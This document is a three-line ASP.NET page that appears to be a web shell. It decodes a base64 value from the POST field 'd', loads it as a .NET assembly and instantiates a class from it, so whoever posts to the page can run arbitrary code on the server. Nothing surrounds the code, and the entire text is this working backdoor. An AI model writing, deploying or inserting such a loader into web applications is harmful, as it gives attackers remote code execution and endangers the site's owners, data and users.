<%@ Page Language="C#" %><%
System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("X").Equals(this);
%>
